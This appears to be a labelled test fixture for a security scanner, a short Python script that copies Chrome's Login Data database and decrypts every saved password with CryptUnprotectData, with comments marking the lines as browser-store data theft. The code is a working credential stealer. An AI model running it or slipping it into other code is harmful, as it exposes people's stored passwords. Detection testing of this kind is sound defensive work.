import os
import shutil
import sqlite3
import win32crypt

source = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copyfile(source, "copy.db") # expect: data-exfiltration/browser-store
for (value,) in sqlite3.connect("copy.db").execute("select password_value from logins"):
    print(win32crypt.CryptUnprotectData(value)) # expect: data-exfiltration/browser-store
